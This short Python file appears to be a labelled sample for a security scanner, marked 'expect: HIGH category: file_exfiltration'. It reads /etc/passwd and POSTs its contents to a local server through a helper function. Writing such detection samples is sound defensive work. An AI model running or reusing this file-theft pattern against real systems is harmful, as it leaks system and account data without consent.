# expect: HIGH category: file_exfiltration
# Posts the account list to a server through a small helper.
import urllib.request


def post_bytes(url, body):
    request = urllib.request.Request(url, data=body, method="POST")
    request.add_header("Content-Type", "application/octet-stream")
    with urllib.request.urlopen(request, timeout=10) as response:
        return response.status


with open("/etc/passwd", "rb") as handle:
    payload = handle.read()
print(post_bytes("http://127.0.0.1:5758/submit", payload))
